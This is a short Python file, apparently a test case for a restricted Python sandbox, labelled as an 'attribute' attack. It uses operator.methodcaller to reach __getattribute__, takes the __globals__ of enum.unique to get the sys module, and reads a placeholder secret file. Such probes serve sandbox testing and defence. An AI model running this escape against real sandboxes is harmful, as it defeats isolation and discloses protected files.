# attack: operator.methodcaller, out of a list, calls __getattribute__ by its name
# family: attribute
import enum
import operator
space = [operator.methodcaller][0]("__getattribute__", "__globals__")(enum.unique)
print("REACHED", space["sys"])
print(space["sys"].modules["io"].open("$SECRET_FILE").read())
